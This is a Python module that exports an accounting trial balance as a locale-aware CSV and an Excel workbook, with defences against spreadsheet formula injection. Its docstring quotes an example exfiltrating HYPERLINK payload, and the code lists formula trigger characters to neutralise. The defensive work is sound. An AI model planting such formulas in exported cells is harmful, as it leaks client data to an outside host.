"""The trial balance as a download: CSV with exact amounts, and an Excel workbook.

The CSV carries every amount exactly as the ledger holds it (Decimal to text, never through a float):
two decimals, or up to four when the package sent sub-cent amounts, in the reader's locale (``;`` between
columns and a decimal comma in Dutch and French, as Excel set to a Belgian locale expects). It starts with a
UTF-8 byte order mark so Excel opens accented account names right. The workbook keeps real numbers.

Account numbers and names come from the client's own WoW company, so they are hostile input: a label
``=HYPERLINK("https://…/leak?"&A3,"Omzet")`` must reach the accountant as text, never as a formula. CSV text
cells that a spreadsheet would read as a formula (starting with ``= + - @``, a tab or a carriage return)
get a leading apostrophe (OWASP's advice; Excel and LibreOffice show the rest as text), and every text cell
of the workbook is written with the string type, whatever it starts with.
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

from django.utils.formats import get_format
from django.utils.translation import gettext, pgettext_lazy
from openpyxl import Workbook
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter

from clients.ledger_selectors import TrialBalance
from clients.models import ClientFile

# The columns, in the reader's language (lazy: worded when a download is made).
HEADER = [
    pgettext_lazy("trial balance column", "Account"),
    pgettext_lazy("trial balance column", "Name"),
    pgettext_lazy("trial balance column", "Opening"),
    pgettext_lazy("trial balance column", "Debit"),
    pgettext_lazy("trial balance column", "Credit"),
    pgettext_lazy("trial balance column", "Closing"),
]
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
XLSX_AMOUNT_FORMAT = "#,##0.00;-#,##0.00"
CENT = Decimal("0.01")
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_text(value: str) -> str:
    """A text cell as a spreadsheet will read it as text: formula-looking values get a leading apostrophe."""
    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value


def exact_amount(value: Decimal) -> str:
    """The amount as plain text, exact: "1234.50", "-0.1235" (never an exponent, never a float)."""
    cents = value.quantize(CENT)
    if cents == value:
        return f"{cents:f}"
    return f"{value.normalize():f}"


def trial_balance_filename(client_file: ClientFile, trial_balance: TrialBalance, extension: str) -> str:
    """E.g. ``ACME-01-trial-balance-2024-03.csv``: safe in a Content-Disposition header and on any disk."""
    stem = f"{client_file.file_code}-trial-balance-{trial_balance.scope.file_label}"
    return f"{re.sub(r'[^A-Za-z0-9._-]+', '_', stem)}.{extension}"


def _rows(trial_balance: TrialBalance) -> list[list[str | Decimal]]:
    rows: list[list[str | Decimal]] = [
        [row.number, row.name, row.opening, row.debit, row.credit, row.closing] for row in trial_balance.rows
    ]
    rows.append(
        [
            gettext("Total"),
            "",
            trial_balance.opening,
            trial_balance.debit,
            trial_balance.credit,
            trial_balance.closing,
        ]
    )
    return rows


def trial_balance_csv(trial_balance: TrialBalance) -> bytes:
    """In the reader's locale, as Excel set to it opens a CSV: with a decimal comma (Dutch and French as in
    Belgium) the columns are separated by ``;``, else by ``,``; amounts exact, without thousands
    separators."""
    decimal = str(get_format("DECIMAL_SEPARATOR"))
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";" if decimal == "," else ",", lineterminator="\r\n")
    writer.writerow([str(title) for title in HEADER])
    for row in _rows(trial_balance):
        writer.writerow(
            [
                exact_amount(cell).replace(".", decimal) if isinstance(cell, Decimal) else csv_text(cell)
                for cell in row
            ]
        )
    return buffer.getvalue().encode("utf-8-sig")


def trial_balance_xlsx(trial_balance: TrialBalance, *, client_file: ClientFile) -> bytes:
    """One sheet: a title line, the header, one row per account, the totals; amounts as numbers."""
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = gettext("Trial balance")[:31]
    sheet.append(
        [
            gettext("%(client)s (%(file_code)s): trial balance, %(scope)s")
            % {
                "client": client_file.name,
                "file_code": client_file.file_code,
                "scope": trial_balance.scope.label,
            }
        ]
    )
    sheet["A1"].font = Font(bold=True)
    sheet.append([str(title) for title in HEADER])
    header_row = sheet.max_row
    for cell in sheet[header_row]:
        cell.font = Font(bold=True)
        if cell.column > 2:
            cell.alignment = Alignment(horizontal="right")
    for row in _rows(trial_balance):
        sheet.append(row)
    total_row = sheet.max_row
    for cell in sheet[total_row]:
        cell.font = Font(bold=True)
    for row in sheet.iter_rows(min_row=header_row + 1, min_col=3, max_col=6):
        for cell in row:
            cell.number_format = XLSX_AMOUNT_FORMAT
    # Account numbers are text: "0100" must keep its zero and never turn into a number.
    for (cell,) in sheet.iter_rows(min_row=header_row + 1, max_col=1):
        cell.number_format = "@"
    # openpyxl stores a string starting with "=" as a formula: every text cell is typed as a string instead.
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    sheet.freeze_panes = sheet.cell(row=header_row + 1, column=1)
    for column, width in zip(range(1, 7), [14, 42, 16, 16, 16, 16], strict=True):
        sheet.column_dimensions[get_column_letter(column)].width = width
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()
